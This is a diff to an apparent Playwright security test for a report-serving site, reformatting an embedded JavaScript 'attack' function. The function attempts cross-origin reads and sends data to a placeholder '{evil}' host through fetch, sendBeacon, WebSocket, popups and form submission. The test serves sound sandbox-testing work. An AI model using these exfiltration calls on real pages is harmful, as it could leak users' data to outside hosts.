@@ -16,7 +16,6 @@ import pytest
 from browsers import chromium
 from playwright.sync_api import Browser, expect
 
-from contrapose.flows.serve.guard import Guard
 from contrapose.flows.serve.report_server import reports, serving_site
 from contrapose.flows.serve.view.site import Viewer
 
@@ -40,7 +39,9 @@ async function attack() {{
     const request = new XMLHttpRequest(); request.open("GET", "{other}");
     request.onload = () => resolve(request.responseText); request.onerror = reject; request.send();
   }}));
-  await attempt("window", async () => {{ const opened = window.open("{other}"); await later(500); return read(opened); }});
+  await attempt("window", async () => {{
+    const opened = window.open("{other}"); await later(500); return read(opened);
+  }});
   await attempt("frame", async () => {{
     const frame = document.createElement("iframe"); frame.src = "{other}"; document.body.append(frame);
     await later(500); return read(frame.contentWindow);
@@ -54,7 +55,8 @@ async function attack() {{
   await attempt("send", async () => {{ await fetch("{evil}/fetch", {{ mode: "no-cors" }}); return "sent"; }});
   navigator.sendBeacon("{evil}/beacon");
   await attempt("socket", () => new Promise((resolve, reject) => {{
-    const socket = new WebSocket("{evil}/socket".replace("http", "ws")); socket.onopen = resolve; socket.onerror = reject;
+    const socket = new WebSocket("{evil}/socket".replace("http", "ws"));
+    socket.onopen = resolve; socket.onerror = reject;
   }}));
   await attempt("popup", () => window.open("{evil}/popup") ? "opened" : Promise.reject());
   document.getElementById("form").submit();
